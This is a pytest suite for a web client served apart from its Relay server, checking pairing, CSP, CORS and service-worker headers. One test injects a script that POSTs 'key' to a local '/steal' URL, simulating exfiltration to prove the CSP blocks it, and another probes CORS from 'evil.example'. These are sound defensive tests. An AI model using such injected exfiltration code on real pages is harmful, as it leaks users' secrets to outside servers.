"""The web client from an origin of its own (`ora-web`), apart from the Relay: it pairs and
chats through the Relay across origins, its CSP lets it reach only the paired Relay, and the
Relay's routing process serves no code when told not to."""

from __future__ import annotations

import asyncio
import re
import shutil
import urllib.error
import urllib.request
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import pytest
from aiohttp import web
from playwright.async_api import expect

from app.link.relay_link import RelayLink
from installer import release_key, web_bundle
from relay_server.web_client import WebSettings, create_web_app
from tests.relay.conftest import free_port
from tests.support.fake_openai import FakeOpenAI, Reply
from tests.support.fixtures import open_runtime
from tests.web.conftest import PHONE

pytestmark = pytest.mark.slow

WEB = Path(__file__).resolve().parents[2] / "assets" / "web"


async def serve(tmp_path: Path, relays: tuple[str, ...]) -> tuple[str, web.AppRunner]:
    """ora-web on a port of its own, serving a signed bundle."""
    bundle = tmp_path / "bundle"
    web_bundle.build(WEB, bundle, release_key.generate(), "1.0.0", pin_own_key=True)
    port = free_port()
    runner = web.AppRunner(create_web_app(WebSettings(web_dir=bundle, relays=relays)))
    await runner.setup()
    await web.TCPSite(runner, "127.0.0.1", port).start()
    return f"http://127.0.0.1:{port}/", runner


@pytest.fixture
async def split(tmp_path: Path, relay_factory: Any, fake_openai: FakeOpenAI) -> AsyncIterator[Any]:
    web_port = free_port()
    app_origin = f"http://127.0.0.1:{web_port}"
    relay = relay_factory("split", ORA_RELAY_ORIGINS=app_origin, ORA_RELAY_SERVE_CLIENT="0")
    bundle = tmp_path / "bundle"
    web_bundle.build(WEB, bundle, release_key.generate(), "1.0.0", pin_own_key=True)
    runner = web.AppRunner(create_web_app(WebSettings(web_dir=bundle, relays=(relay.url,))))
    await runner.setup()
    await web.TCPSite(runner, "127.0.0.1", web_port).start()
    runtime = await open_runtime(tmp_path / "node", fake_openai)
    link = RelayLink(runtime=runtime, relay_urls=[relay.url], web_url=app_origin + "/")
    link.start()
    async with asyncio.timeout(10):
        await link.wait_connected()
    yield relay, app_origin, link
    await link.stop()
    await runtime.close()
    await runner.cleanup()


async def test_pairs_and_chats_from_its_own_origin_reaching_only_the_paired_relay(
    browser: Any, split: Any, fake_openai: FakeOpenAI
) -> None:
    relay, app_origin, link = split
    # The Relay's routing process serves no code.
    with pytest.raises(urllib.error.HTTPError) as refused:
        urllib.request.urlopen(relay.url + "/app/", timeout=5)
    assert refused.value.code == 404
    _, url = await link.open_pairing()
    assert url.startswith(app_origin + "/#")
    context = await browser.new_context(**PHONE, locale="en-US")
    page = await context.new_page()
    await page.goto(url)
    await expect(page.locator("#dot.online")).to_have_count(1, timeout=20000)
    fake_openai.script.append(Reply(text="Hello from your PC."))
    await page.fill("#input", "hello?")
    await page.click("#send")
    await expect(page.locator(".msg.ora", has_text="Hello from your PC.")).to_have_count(
        1, timeout=15000
    )

    # Installed: the kept page's CSP names this origin and the paired Relay, nothing else.
    resp = await page.reload()
    await expect(page.locator("#dot.online")).to_have_count(1, timeout=20000)
    assert resp is not None and resp.from_service_worker
    policy = resp.headers["content-security-policy"]
    connect = re.search(r"connect-src ([^;]*)", policy)
    assert connect is not None
    relay_ws = relay.url.replace("http", "ws")
    assert connect.group(1).split() == ["'self'", relay.url, relay_ws]
    assert "script-src 'self';" in policy and "unsafe" not in policy
    # Code injected into the page cannot reach any other server.
    other = f"http://127.0.0.1:{free_port()}/steal"
    blocked = await page.evaluate(
        """(u) => new Promise((done) => {
            document.addEventListener("securitypolicyviolation",
                (e) => done("blocked " + e.effectiveDirective), { once: true });
            fetch(u, { method: "POST", body: "key" }).catch(() => {});
            setTimeout(() => done("not blocked"), 3000);
        })""",
        other,
    )
    assert blocked == "blocked connect-src"
    await context.close()


async def test_a_link_naming_a_relay_the_page_does_not_serve_gets_nothing(
    tmp_path: Path, browser: Any, split: Any
) -> None:
    relay, app_origin, link = split
    _, url = await link.open_pairing()
    # Another server hands out the same client configured for a Relay of its own.
    other, runner = await serve(tmp_path / "other", ("http://127.0.0.1:9",))
    context = await browser.new_context(**PHONE, locale="en-US")
    page = await context.new_page()
    posts: list[str] = []
    page.on("request", lambda r: posts.append(r.url) if r.method == "POST" else None)
    await page.goto(other + url[len(app_origin + "/") :])
    await expect(page.locator("#status")).to_contain_text("different Relay", timeout=10000)
    assert posts == []
    await context.close()
    await runner.cleanup()
    shutil.rmtree(tmp_path / "other", ignore_errors=True)


def test_only_the_configured_origin_may_call_the_relay_across_origins(relay_factory: Any) -> None:
    app_origin = "http://127.0.0.1:1"
    relay = relay_factory("cors", ORA_RELAY_ORIGINS=app_origin)

    def preflight(origin: str) -> Any:
        req = urllib.request.Request(
            relay.url + "/v1/pair",
            method="OPTIONS",
            headers={"Origin": origin, "Access-Control-Request-Method": "POST"},
        )
        try:
            with urllib.request.urlopen(req, timeout=5) as resp:
                return resp.headers
        except urllib.error.HTTPError as err:
            return err.headers

    assert preflight(app_origin)["Access-Control-Allow-Origin"] == app_origin
    assert preflight("https://evil.example")["Access-Control-Allow-Origin"] is None
    # The embedded Relay still serves the client at /app/ (make run), with its CSP.
    with urllib.request.urlopen(relay.url + "/app/", timeout=5) as resp:
        assert "connect-src 'self';" in resp.headers["Content-Security-Policy"]
        assert b'src="pin.js"' in resp.read()
    with urllib.request.urlopen(relay.url + "/app/sw.js", timeout=5) as resp:
        # A service worker must come with a JavaScript type.
        assert resp.headers["Content-Type"].split(";")[0] in (
            "text/javascript",
            "application/javascript",
        )
